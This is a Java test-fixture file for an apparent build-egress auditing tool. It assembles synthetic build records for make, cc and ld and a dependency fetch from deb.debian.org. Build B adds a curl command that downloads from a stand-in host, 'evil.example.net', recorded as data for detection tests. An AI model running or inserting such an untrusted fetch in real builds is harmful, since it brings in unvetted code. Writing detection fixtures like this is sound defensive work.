package dev.plumbline.policy;

import dev.plumbline.egress.EgressMode;
import dev.plumbline.record.BuildRecord;
import dev.plumbline.record.BuildRecord.Destination;
import dev.plumbline.record.BuildRecord.DnsQuery;
import dev.plumbline.record.BuildRecord.Exec;
import dev.plumbline.record.BuildRecord.FileWrite;
import dev.plumbline.record.BuildRecord.ProcessInfo;
import dev.plumbline.record.BuildRecord.Tool;
import dev.plumbline.trace.EgressDecision;
import java.util.ArrayList;
import java.util.List;

/** Synthetic build records: build A (a small C build that fetches from deb.debian.org) and variants of it. */
public final class TestRecords {
  public static final String MAKE = "1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a1a";
  public static final String CC = "2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b2b";
  public static final String LD = "3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c3c";
  public static final String SH = "4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d4d";
  public static final String CURL = "5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e";

  private TestRecords() {}

  /** A mutable builder so each test states only what differs from build A. */
  public static final class Builder {
    public String egressMode = "audit";
    public BuildRecord.Completeness completeness = BuildRecord.Completeness.full();
    public final List<Tool> tools = new ArrayList<>();
    public final List<ProcessInfo> processes = new ArrayList<>();
    public final List<Destination> network = new ArrayList<>();
    public final List<DnsQuery> dns = new ArrayList<>();
    public final List<FileWrite> files = new ArrayList<>();
    public String startedAt = "2026-11-20T10:00:00Z";
    public String finishedAt = "2026-11-20T10:00:04Z";

    public Builder tool(String path, String sha, int pid, int ppid, String at, String end, String... argv) {
      tools.removeIf(t -> t.path().equals(path) && t.sha256().equals(sha));
      int count = 1 + (int) processes.stream().flatMap(p -> p.execs().stream()).filter(e -> e.path().equals(path)).count();
      tools.add(new Tool(path, sha, count));
      tools.sort(java.util.Comparator.comparing(Tool::path));
      processes.add(new ProcessInfo(pid, ppid, at, end, 0, null, false,
          List.of(new Exec(path, sha, List.of(argv), "/src", at, null))));
      return this;
    }

    public Builder connect(String host, String address, int port, String proto, String decision, String process) {
      network.add(Destination.to(address.contains(":") ? "inet6" : "inet", proto, address, port).withHostname(host).withDecision(EgressDecision.ofLabel(decision))
            .withCalls(List.of("connect"), List.of("0")).withUse(List.of(process), 1));
      return this;
    }

    public Builder unix(String path, String decision, String process) {
      network.add(Destination.to("unix", "unix-stream", path, null).withDecision(EgressDecision.ofLabel(decision))
            .withCalls(List.of("connect"), List.of("0")).withUse(List.of(process), 1));
      return this;
    }

    public Builder write(String path, boolean tracked, String process, String... ops) {
      files.add(new FileWrite(path, List.of(ops), tracked, List.of(process), 1));
      return this;
    }

    public BuildRecord build() {
      return new BuildRecord(
          BuildRecord.FORMAT,
          new BuildRecord.Agent("plumbline", "0.1.0", "ptrace", EgressMode.ofLabel(egressMode), List.of(), null, null, null),
          new BuildRecord.Invocation(List.of("make", "-j2"), "/src", startedAt, finishedAt, 0, null),
          completeness, List.copyOf(tools), List.copyOf(processes), List.copyOf(network), List.copyOf(dns), List.copyOf(files), null, null, null, null, null);
    }
  }

  /** Build A: make runs cc and ld, fetches from deb.debian.org over TLS, asks the local resolver. */
  public static Builder buildA() {
    Builder b = new Builder();
    b.tool("/usr/bin/make", MAKE, 100, 1, "2026-11-20T10:00:00Z", "2026-11-20T10:00:04Z", "make", "-j2");
    b.tool("/usr/bin/x86_64-linux-gnu-gcc-12", CC, 101, 100, "2026-11-20T10:00:01Z", "2026-11-20T10:00:02Z", "cc", "-c", "main.c");
    b.tool("/usr/bin/x86_64-linux-gnu-gcc-12", CC, 102, 100, "2026-11-20T10:00:01.5Z", "2026-11-20T10:00:02.5Z", "cc", "-c", "greet.c");
    b.tool("/usr/bin/x86_64-linux-gnu-ld.bfd", LD, 103, 100, "2026-11-20T10:00:03Z", "2026-11-20T10:00:03.5Z", "ld", "-o", "hello");
    b.tool("/usr/bin/dash", SH, 104, 100, "2026-11-20T10:00:03.6Z", "2026-11-20T10:00:03.9Z", "sh", "-c", "./fetch-deps");
    b.connect("deb.debian.org", "151.101.2.132", 443, "tcp", "audited", "104 sh");
    b.connect(null, "127.0.0.53", 53, "udp", "audited", "104 sh");
    b.unix("/run/nscd/socket", "audited", "104 sh");
    b.dns.add(new DnsQuery("deb.debian.org", "A", List.of("151.101.2.132"), EgressDecision.AUDITED, 1));
    b.write("hello", false, "103 ld", "create", "write");
    b.write("main.o", false, "101 cc", "create", "write");
    return b;
  }

  /** Build B: build A plus curl fetching from an unknown host. */
  public static Builder buildB() {
    Builder b = buildA();
    b.tool("/usr/bin/curl", CURL, 105, 104, "2026-11-20T10:00:03.7Z", "2026-11-20T10:00:03.8Z", "curl", "-sS", "https://evil.example.net/x");
    b.connect("evil.example.net", "203.0.113.9", 443, "tcp", "audited", "105 curl");
    return b;
  }
}
